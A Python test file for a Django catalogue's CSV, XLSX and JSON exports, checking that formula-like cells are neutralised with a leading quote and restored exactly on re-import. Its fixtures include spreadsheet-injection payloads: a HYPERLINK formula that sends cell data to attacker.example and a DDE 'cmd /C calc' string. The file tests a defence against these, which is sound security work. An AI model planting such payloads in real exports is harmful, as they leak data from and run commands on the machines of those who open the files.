"""Exports that cannot hurt: formula-like cells are neutralised in CSV and XLSX (and written
as text in XLSX), characters XML cannot hold never fail an export, JSON stays exact, and the
neutralising quote is undone exactly for a re-import."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import DataError, transaction
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from techbridge.catalogue.bulk.columns import COLUMNS
from techbridge.catalogue.bulk.exporting import (
    as_csv,
    as_xlsx,
    neutralise_spreadsheet_text,
    restore_spreadsheet_text,
)
from techbridge.catalogue.models import Listing, ListingText
from techbridge.catalogue.tests.published import Catalogue

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
HOSTILE_KEYWORDS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _plant(offer: Listing, title: str) -> None:
    """Store hostile values past the services, as data from before the bounds would be."""
    ListingText.objects.filter(listing=offer, language="en").update(title=title)
    Listing.objects.filter(pk=offer.pk).update(keywords=HOSTILE_KEYWORDS, external_ref="=1+2")


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _offer_row(rows: list[dict[str, str]], offer: Listing) -> dict[str, str]:
    return next(row for row in rows if row["reference"] == offer.reference)


def test_csv_cells_that_look_like_formulas_start_with_a_quote(
    client: Client, catalogue: Catalogue
) -> None:
    _plant(catalogue.offer, HOSTILE_TITLE)
    response = client.get("/en/listings/export/csv/")
    assert response.status_code == 200
    row = _offer_row(_csv_rows(response.content), catalogue.offer)
    assert row["title_en"] == "'" + HOSTILE_TITLE
    assert row["keywords"] == "'" + ";".join(HOSTILE_KEYWORDS)
    assert row["external_ref"] == "'=1+2"
    assert row["summary_en"] == catalogue.offer.texts.get(language="en").summary  # untouched


def test_xlsx_cells_are_text_never_formulas(client: Client, catalogue: Catalogue) -> None:
    _plant(catalogue.offer, HOSTILE_TITLE)
    response = client.get("/en/listings/export/xlsx/")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header == list(COLUMNS)
    cells = {
        row[1].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)
    }
    offer_cells = cells[catalogue.offer.reference]
    title = offer_cells["title_en"]
    assert title.data_type == "s"
    assert title.value == "'" + HOSTILE_TITLE
    assert offer_cells["external_ref"].data_type == "s"
    assert offer_cells["external_ref"].value == "'=1+2"
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1b", "\ufffe"])
def test_a_stored_character_xml_cannot_hold_never_fails_an_export(
    client: Client, catalogue: Catalogue, character: str
) -> None:
    try:
        with transaction.atomic():
            _plant(catalogue.offer, f"Ultra{character}sound")
    except (ValueError, DataError):  # PostgreSQL cannot store a NUL at all: nothing to export
        assert character == "\x00"
        return
    xlsx = client.get("/en/listings/export/xlsx/")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    titles = [row[5].value for row in sheet.iter_rows(min_row=2)]
    assert "Ultra\ufffdsound" in titles
    csv_rows = _csv_rows(client.get("/en/listings/export/csv/").content)
    assert _offer_row(csv_rows, catalogue.offer)["title_en"] == "Ultra\ufffdsound"
    # JSON is exact: the stored text, escaped by JSON itself.
    exported = json.loads(client.get("/en/listings/export/json/").content)
    assert _offer_row(exported, catalogue.offer)["title_en"] == f"Ultra{character}sound"
    # And the pages and the API that show the title still answer.
    for url in (
        f"/en/listings/{catalogue.offer.reference}/",
        f"/api/v1/listings/{catalogue.offer.reference}",
        "/api/v1/listings",
    ):
        assert client.get(url).status_code == 200, url


def test_json_export_stays_exact(client: Client, catalogue: Catalogue) -> None:
    _plant(catalogue.offer, HOSTILE_TITLE)
    rows = json.loads(client.get("/en/listings/export/json/").content)
    row = _offer_row(rows, catalogue.offer)
    assert row["title_en"] == HOSTILE_TITLE
    assert row["keywords"] == ";".join(HOSTILE_KEYWORDS)


def test_neutralised_csv_and_xlsx_restore_to_the_exported_rows() -> None:
    rows = [
        dict.fromkeys(COLUMNS, "")
        | {
            "reference": "HK-OFF-0001",
            "title_en": value,
            "summary_en": "'" + value,
            "keywords": "plain",
        }
        for value in ["=1+2", "+x", "-y", "@z", "\tTab", "\rCR", "'=q", "''@w", "'quoted", "ok"]
    ]
    from_csv = [
        {column: restore_spreadsheet_text(value) for column, value in row.items()}
        for row in _csv_rows(as_csv(rows))
    ]
    assert from_csv == rows
    sheet = load_workbook(io.BytesIO(as_xlsx(rows))).active
    assert sheet is not None
    from_xlsx = [
        {
            column: restore_spreadsheet_text(cell.value or "")
            for column, cell in zip(COLUMNS, row, strict=True)
        }
        for row in sheet.iter_rows(min_row=2)
    ]
    # XML normalises a carriage return to a line feed, so the XLSX writer does it first (and
    # a value starting with one then needs no quote).
    assert from_xlsx == [
        {column: value.replace("\r", "\n") for column, value in row.items()} for row in rows
    ]


@settings(max_examples=50, deadline=None)
@given(value=st.text(alphabet=st.sampled_from("'=+-@\t\rab1 "), max_size=8) | st.text(max_size=8))
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    cell = neutralise_spreadsheet_text(value)
    assert restore_spreadsheet_text(cell) == value
    assert cell.lstrip("'")[:1] not in {"=", "+", "-", "@", "\t", "\r"} or cell.startswith("'")
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
